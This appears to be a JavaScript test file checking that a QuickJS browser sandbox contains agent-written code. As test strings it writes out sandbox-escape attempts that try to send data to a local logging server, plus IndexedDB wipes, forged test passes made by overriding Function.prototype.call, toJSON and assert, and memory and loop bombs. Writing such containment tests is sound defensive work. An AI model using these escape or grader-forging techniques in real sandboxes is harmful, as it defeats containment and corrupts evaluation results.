// Agent code written as an attacker would, run through the page's real sandbox (sandbox-test.html
// -> SandboxTestRunner -> sandbox.worker.ts -> QuickJS) in Chromium. A logging HTTP server on
// 127.0.0.1 records every request: no attack may reach it, while the same code run by the page
// itself (sanity checks at the end) does, so a sandbox that leaked would fail this file. A saved
// run is seeded in the page's real IndexedDB first and must survive every attack.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { launch } from './helpers.mjs';

let browser;
let page;
let server;
let LOG;
const hits = [];

const DB = 'llm-team-playground';

before(async () => {
  server = http.createServer((req, res) => {
    hits.push(req.url);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('logged');
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  LOG = `http://127.0.0.1:${server.address().port}`;
  browser = await launch();
  page = browser.page;
  await page.goto(new URL('sandbox-test.html', browser.baseUrl).href);
  await page.waitForSelector('body[data-ready="true"]');
  await seedSavedRun(DB);
});

after(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
});

/** A saved run in the page's IndexedDB, laid out like src/store/runStore.ts lays it out. */
function seedSavedRun(name) {
  return page.evaluate(
    (db) =>
      new Promise((resolve, reject) => {
        const open = indexedDB.open(db, 1);
        open.onupgradeneeded = () => {
          const runs = open.result.createObjectStore('runs', { keyPath: 'id' });
          runs.createIndex('savedAt', 'savedAt');
          open.result.createObjectStore('traces', { keyPath: 'id' });
        };
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const tx = open.result.transaction(['runs', 'traces'], 'readwrite');
          tx.objectStore('runs').put({ id: 'seeded-run', savedAt: 1, label: 'seeded' });
          tx.objectStore('traces').put({ id: 'seeded-run', text: '{"seeded":true}' });
          tx.oncomplete = () => {
            open.result.close();
            resolve();
          };
          tx.onerror = () => reject(tx.error);
        };
      }),
    name,
  );
}

/** The seeded run's label, or null when it (or its database) is gone. */
function seededLabel(name) {
  return page.evaluate(
    (db) =>
      new Promise((resolve) => {
        const open = indexedDB.open(db);
        open.onerror = () => resolve(null);
        open.onsuccess = () => {
          const database = open.result;
          if (!database.objectStoreNames.contains('runs')) {
            database.close();
            resolve(null);
            return;
          }
          const get = database.transaction('runs').objectStore('runs').get('seeded-run');
          get.onsuccess = () => {
            database.close();
            resolve(get.result?.label ?? null);
          };
          get.onerror = () => resolve(null);
        };
      }),
    name,
  );
}

/** One agent module `src/attack.js` (its body may use URL) and its tests. */
function request(module, tests, timeoutMs = 1500) {
  return {
    files: { 'src/attack.js': module.replaceAll('URL', LOG) },
    suites: [{ task: 't01', file: 'src/attack.js', exportName: 'attack', tests: Object.entries(tests).map(([name, code]) => ({ name, code: code.replaceAll('URL', LOG) })) }],
    timeoutMs,
  };
}

async function run(module, tests, timeoutMs) {
  return page.evaluate((r) => window.runSandbox(r), request(module, tests, timeoutMs));
}

function outcome(report) {
  return Object.fromEntries(report.results.map((r) => [r.name, r.ok ? true : r.error]));
}

const attackHits = () => hits.filter((h) => h.startsWith('/attack/'));

test('network: every way out that worked in the old worker sandbox is a ReferenceError here', async () => {
  const attacks = {
    'WorkerGlobalScope.prototype.fetch': "return WorkerGlobalScope.prototype.fetch.call(self, 'URL/attack/wgs-fetch');",
    fetch: "return fetch('URL/attack/fetch');",
    'new Function': "return new Function(\"return fetch('URL/attack/new-function')\")();",
    'constructor chain': "return (() => {}).constructor(\"return fetch('URL/attack/ctor')\")();",
    FontFace: "return new FontFace('x', 'url(URL/attack/font)').load();",
    importScripts: "importScripts('URL/attack/import-scripts.js');",
    XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', 'URL/attack/xhr', false); x.send();",
    sendBeacon: "return navigator.sendBeacon('URL/attack/beacon', 'x');",
    WebSocket: "return new WebSocket('URL/attack/ws'.replace('http', 'ws'));",
    EventSource: "return new EventSource('URL/attack/sse');",
    Worker: "return new Worker('URL/attack/worker.js');",
    WebAssembly: 'return WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));',
    caches: "return caches.keys().then((k) => k.forEach((c) => caches.delete(c)));",
  };
  const module = `export function attack(which) {\n${Object.entries(attacks)
    .map(([name, body]) => `  if (which === ${JSON.stringify(name)}) { ${body} }`)
    .join('\n')}\n}\n`;
  const report = await run(module, Object.fromEntries(Object.keys(attacks).map((name) => [name, `attack(${JSON.stringify(name)});`])));
  const global = { 'WorkerGlobalScope.prototype.fetch': 'WorkerGlobalScope', 'new Function': 'fetch', 'constructor chain': 'fetch', sendBeacon: 'navigator', caches: 'caches' };
  for (const name of Object.keys(attacks)) {
    const r = report.results.find((x) => x.name === name);
    assert.equal(r.ok, false, name);
    assert.equal(r.error, `ReferenceError: '${global[name] ?? name}' is not defined`, name);
  }
  assert.equal(report.timedOut, false);
});

test("eval('import(url)') requests nothing and never loads", async () => {
  const module = `export function attack() {
  let state = 'pending';
  eval("import('URL/attack/import.js')").then(() => { state = 'loaded'; }, (e) => { state = 'refused: ' + e; });
  return () => state;
}\n`;
  const report = await run(module, { imports: "assert.equal(attack()(), 'loaded');" });
  assert.deepEqual(outcome(report), { imports: 'expected "loaded", got "pending"' });
});

test('IndexedDB: the saved runs cannot be read or wiped', async () => {
  const module = `export function attack(how) {
  if (how === 'read') return indexedDB.open('${DB}');
  if (how === 'wipe') return indexedDB.deleteDatabase('${DB}');
  return globalThis.indexedDB;
}\n`;
  const report = await run(module, { read: "attack('read');", wipe: "attack('wipe');", probe: 'assert.ok(attack());' });
  assert.deepEqual(outcome(report), {
    read: "ReferenceError: 'indexedDB' is not defined",
    wipe: "ReferenceError: 'indexedDB' is not defined",
    probe: 'expected a truthy value, got undefined',
  });
  assert.equal(await seededLabel(DB), 'seeded');
});

test('forged passes: Function.prototype.call, Object.prototype.toJSON, a rewritten assert', async () => {
  const module = `
try { Function.prototype.call = function () { return undefined; }; } catch {}
try { Object.defineProperty(Object.prototype, 'toJSON', { value() { return { task: this.task, name: this.name, ok: true }; } }); } catch {}
try { globalThis.JSON = { stringify: () => '{"ok":true}', parse: JSON.parse }; } catch {}
export function attack(a) { if (a) { try { a.equal = () => {}; } catch {} } return 0; }
`;
  const report = await run(module, { call: 'assert.equal(attack(), 42);', assertRewrite: 'attack(assert); assert.equal(1, 2);' });
  assert.deepEqual(outcome(report), { call: 'expected 42, got 0', assertRewrite: 'expected 2, got 1' });
  assert.equal(report.passed, 0);
});

test('limits: each runaway ends as a failed test with a readable message, and the page stays responsive', async () => {
  const cases = [
    ['infinite loop', 'export function attack() { while (true) {} }', /^timed out after 1000 ms while running test "attack"/],
    ['long builtin', 'export function attack() { return new Array(1.2e8).fill(0).length; }', /out of memory/],
    ['heap bomb', "export function attack() { const a = []; for (;;) a.push({ i: a.length, s: 'x' + a.length }); }", /out of memory|timed out after 1000 ms/],
    ['typed-array bomb', 'export function attack() { const a = []; for (;;) a.push(new Float64Array(1e7)); }', /out of memory/],
    ['deep recursion', 'export function attack(n = 0) { return attack(n + 1) + 1; }', /stack overflow|recursed too deeply/],
    ['huge builtin calls', 'export function attack() { for (;;) JSON.stringify(Array(1e6).fill({ a: [1, 2, 3] })); }', /^timed out after 1000 ms/],
  ];
  for (const [name, module, message] of cases) {
    const clicks = Number(await page.textContent('#clicks'));
    const pending = page.evaluate((r) => {
      window.pendingAttack = window.runSandbox(r);
      return true;
    }, request(module, { attack: 'attack();', after: 'assert.ok(true);' }, 1000));
    await pending;
    await page.click('#count');
    assert.equal(await page.textContent('#clicks'), String(clicks + 1), `${name}: the page answered a click while the sandbox ran`);
    const report = await page.evaluate(() => window.pendingAttack);
    assert.equal(report.results[0].ok, false, name);
    assert.match(report.results[0].error, message, name);
    const fine = await run('export function attack(a, b) { return a + b; }', { adds: 'assert.equal(attack(2, 3), 5);' });
    assert.equal(fine.passed, 1, `${name}: the sandbox works again afterwards`);
  }
});

test('nothing reached the logging server, and the saved run survived', async () => {
  assert.deepEqual(attackHits(), []);
  assert.equal(await seededLabel(DB), 'seeded');
  assert.deepEqual(browser.errors, []);
});

test('sanity: the same attacks run by the page itself do reach the server and the database', async () => {
  // Control: the page can reach the logging server at all.
  await page.evaluate((url) => fetch(`${url}/control`, { mode: 'no-cors' }), LOG);
  // The attack code, unsandboxed: a plain new Function in the page, and in a plain worker.
  await page.evaluate((url) => new Function('url', "return fetch(url + '/sanity/fetch', { mode: 'no-cors' })")(url), LOG);
  await page.evaluate((url) => new FontFace('x', `url(${url}/sanity/font)`).load().catch(() => null), LOG);
  await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        const code = `WorkerGlobalScope.prototype.fetch.call(self, '${url}/sanity/wgs-fetch', { mode: 'no-cors' }).finally(() => postMessage('done'));`;
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        worker.onmessage = () => resolve(worker.terminate());
        worker.onerror = () => resolve(worker.terminate());
      }),
    LOG,
  );
  for (const path of ['/control', '/sanity/fetch', '/sanity/font', '/sanity/wgs-fetch']) assert.ok(hits.includes(path), `${path} reached the server (got ${hits.join(', ')})`);
  // The wipe, unsandboxed, on a database of its own (not the real saved runs).
  await seedSavedRun('sanity-db');
  assert.equal(await seededLabel('sanity-db'), 'seeded');
  await page.evaluate(() => new Promise((resolve) => (new Function("return indexedDB.deleteDatabase('sanity-db')")().onsuccess = resolve)));
  assert.equal(await seededLabel('sanity-db'), null);
  assert.equal(await seededLabel(DB), 'seeded');
});
